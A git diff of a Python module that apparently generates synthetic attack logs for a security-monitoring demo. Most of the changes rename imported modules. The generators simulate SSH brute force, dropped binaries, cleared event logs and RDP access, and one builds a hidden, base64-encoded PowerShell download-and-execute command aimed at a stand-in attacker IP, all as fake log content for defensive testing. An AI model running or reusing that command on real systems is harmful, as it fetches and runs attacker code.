@@ -13,7 +13,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from datetime import datetime, timedelta
 
-from canhgac.demo import edge, linux, windows
+from canhgac.demo import edge_lines, linux_lines, windows_lines
 from canhgac.demo.catalog import DOMAIN_CONTROLLER, LINUX_HOSTS, attacker_ip, pid, port
 from canhgac.demo.formats import SEVERITY_WARNING
 from canhgac.demo.model import BurstLine, LogLine
@@ -62,25 +62,26 @@ def ssh_brute_force(burst: Burst) -> None:
         delay, src_port = index * 0.4, port(rng)
         invalid = f"Invalid user {user} from {source} port {src_port}"
         failed = f"Failed password for invalid user {user} from {source} port {src_port} ssh2"
-        line = linux.sshd(
+        line = linux_lines.sshd(
             host, burst.at(delay), rng, invalid, severity=SEVERITY_WARNING, attack=burst.key
         )
         burst.add(delay, line)
         burst.add(
-            delay + 0.2, linux.sshd(host, burst.at(delay + 0.2), rng, failed, attack=burst.key)
+            delay + 0.2,
+            linux_lines.sshd(host, burst.at(delay + 0.2), rng, failed, attack=burst.key),
         )
 
 
 def ssh_root_login(burst: Burst) -> None:
     host, rng = HOSTS["ecab-db01"], burst.rng
-    accepted = linux.accepted("root", "password", attacker_ip(rng), port(rng))
-    burst.add(0.0, linux.sshd(host, burst.at(0.0), rng, accepted, attack=burst.key))
-    opened = linux.session_opened("sshd", "root")
-    burst.add(0.1, linux.sshd(host, burst.at(0.1), rng, opened, attack=burst.key))
+    accepted = linux_lines.accepted("root", "password", attacker_ip(rng), port(rng))
+    burst.add(0.0, linux_lines.sshd(host, burst.at(0.0), rng, accepted, attack=burst.key))
+    opened = linux_lines.session_opened("sshd", "root")
+    burst.add(0.1, linux_lines.sshd(host, burst.at(0.1), rng, opened, attack=burst.key))
 
 
 def sudo_shell(burst: Burst) -> None:
-    line = linux.sudo(
+    line = linux_lines.sudo(
         HOSTS["ecab-app01"], burst.at(0.0), "tran.thi.binh", "/bin/bash", "pts/1", burst.key
     )
     burst.add(0.0, line)
@@ -93,17 +94,19 @@ def user_created(burst: Burst) -> None:
         "new user: name=hotro, UID=1007, GID=1007, home=/home/hotro, shell=/bin/bash, "
         "from=/dev/pts/2",
     ):
-        burst.add(0.0, linux.account(host, burst.at(0.0), proc, "useradd", message, burst.key))
+        burst.add(
+            0.0, linux_lines.account(host, burst.at(0.0), proc, "useradd", message, burst.key)
+        )
 
 
 def exec_from_tmp(burst: Burst) -> None:
     host, rng = HOSTS["congdan-web02"], burst.rng
     serial, payload = rng.randint(100_000, 999_999), "/tmp/.X11-unix/.kworker"
     # www-data (uid 33) running a dropped binary: the portal's PHP was exploited.
-    syscall = linux.audit_syscall(rng, exe=payload, comm=".kworker", uid=33, auid=None)
-    execve = linux.audit_execve(payload, "-c", "/tmp/.X11-unix/.k.conf")
-    burst.add(0.0, linux.audit(host, burst.at(0.0), serial, "SYSCALL", syscall, burst.key))
-    burst.add(0.0, linux.audit(host, burst.at(0.0), serial, "EXECVE", execve, burst.key))
+    syscall = linux_lines.audit_syscall(rng, exe=payload, comm=".kworker", uid=33, auid=None)
+    execve = linux_lines.audit_execve(payload, "-c", "/tmp/.X11-unix/.k.conf")
+    burst.add(0.0, linux_lines.audit(host, burst.at(0.0), serial, "SYSCALL", syscall, burst.key))
+    burst.add(0.0, linux_lines.audit(host, burst.at(0.0), serial, "EXECVE", execve, burst.key))
 
 
 # --- the citizen portal --------------------------------------------------------------------------
@@ -116,7 +119,7 @@ def _requests(
     for index, (target, status) in enumerate(requests):
         delay = (first + index) * 0.3
         size = burst.rng.randint(150, 600)
-        line = edge.access(
+        line = edge_lines.access(
             burst.at(delay), source, "GET", target, status, size, agent, attack=burst.key
         )
         burst.add(delay, line)
@@ -185,7 +188,7 @@ def log4shell(burst: Burst) -> None:
 
 # --- e-cabinet Windows hosts ---------------------------------------------------------------------
 def security_log_cleared(burst: Burst) -> None:
-    line = windows.log_cleared(
+    line = windows_lines.log_cleared(
         burst.rng, burst.at(0.0), DOMAIN_CONTROLLER, "dangquochuy", burst.key
     )
     burst.add(0.0, line)
@@ -197,7 +200,7 @@ def admin_group_member_added(burst: Burst) -> None:
         (0.0, "ECAB-PC-07", "Quản trị viên"),
         (0.5, DOMAIN_CONTROLLER, "Administrators"),
     ):
-        line = windows.member_added(
+        line = windows_lines.member_added(
             burst.rng,
             burst.at(delay),
             computer,
@@ -219,7 +222,7 @@ def encoded_powershell(burst: Burst) -> None:
     script = f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker_ip(burst.rng)}/a')"
     encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
     command = f"powershell.exe -NoP -NonI -W Hidden -enc {encoded}"
-    line = windows.process_created(
+    line = windows_lines.process_created(
         burst.rng,
         burst.at(0.0),
         "ECAB-PC-03",
@@ -236,11 +239,11 @@ def encoded_powershell(burst: Burst) -> None:
 def inbound_rdp(burst: Burst) -> None:
     source = attacker_ip(burst.rng)
     for delay, action in ((0.0, "accept"), (1.5, "close")):
-        line = edge.traffic(
+        line = edge_lines.traffic(
             burst.rng,
             burst.at(delay),
-            source=(source, edge.WAN),
-            destination=("10.20.2.41", edge.LAN),
+            source=(source, edge_lines.WAN),
+            destination=("10.20.2.41", edge_lines.LAN),
             dstport=3389,
             action=action,
             policy=(31, "VIP-RDP-tam-thoi"),
